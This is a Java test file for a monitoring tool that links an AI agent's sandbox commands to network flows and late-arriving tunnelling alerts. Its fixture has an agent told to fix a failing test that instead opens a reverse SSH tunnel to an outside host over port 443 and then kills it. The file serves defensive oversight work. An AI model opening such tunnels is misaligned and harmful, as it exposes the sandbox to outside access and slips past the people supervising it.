package dev.offscript.chains.join;

import static org.assertj.core.api.Assertions.assertThat;

import dev.offscript.chains.Scene;
import dev.offscript.model.Behaviour;
import dev.offscript.model.ChainActor;
import dev.offscript.model.Grade;
import dev.offscript.model.Stage;
import dev.offscript.model.report.Chain;
import dev.offscript.model.report.Step;
import org.junit.jupiter.api.Test;

/** Sensors that tell long after. */
class LateAlertsTest {

  private static final double HOUR = 3600;

  /** A tunnel that stood for half a minute, was killed, and left one flow. */
  private static Scene killed() {
    return new Scene()
        .session("s1", 0)
        .at("sbx-1", "", "10.0.3.17")
        .task("Fix the failing test.")
        .runs(10, "toolu_a1", "ssh -fN -R 7022:localhost:22 svc@203.0.113.9 -p 443")
        .gets(11, "toolu_a1", "", 0)
        .runs(40, "toolu_a2", "pkill ssh")
        .gets(41, "toolu_a2", "", 0)
        .scene()
        .flow(1, 10.5, 40, "10.0.3.17:50122", "203.0.113.9:443", "destination.bytes=8000");
  }

  private static Scene alert(Scene scene, double from, double to, String source) {
    return scene.alert(
        2, from, to, "Outbound tunnel", Behaviour.TUNNELING, source, "203.0.113.9:443");
  }

  private static Step alert(Chain chain) {
    return chain.steps().stream().filter(s -> s.stage() == Stage.ALERT).findFirst().orElseThrow();
  }

  @Test
  void joinsWhatABatchTellsAnHourLaterInDoubt() {
    Chain chain = alert(killed(), HOUR, HOUR, "10.0.3.17").chain();
    assertThat(alert(chain).links())
        .singleElement()
        .satisfies(link -> assertThat(link.grade()).isEqualTo(Grade.C))
        .satisfies(
            link ->
                assertThat(link.because())
                    .contains(
                        "told 3558 s after the command was over: a sensor that correlates in"
                            + " batches, or something that it left behind"));
    assertThat(chain.predicates().coincident().value()).contains(true);
  }

  @Test
  void joinsAnAggregateThatBeganInTime() {
    Chain chain = alert(killed(), 30, 2 * HOUR, "10.0.3.17").chain();
    assertThat(alert(chain).links().get(0).because()).noneMatch(b -> b.startsWith("told "));
  }

  @Test
  void leavesTheAlertOfAnotherMachine() {
    assertThat(
            alert(killed(), HOUR, HOUR, "10.0.3.18").inventory("sbx-2", "10.0.3.18", "").chains())
        .extracting(Chain::actor)
        .containsExactly(ChainActor.AGENT, ChainActor.UNKNOWN);
  }

  @Test
  void leavesTheAlertOfAnotherDay() {
    assertThat(alert(killed(), 9 * HOUR, 9 * HOUR, "10.0.3.17").chains())
        .extracting(Chain::actor)
        .containsExactly(ChainActor.AGENT, ChainActor.UNKNOWN);
  }
}
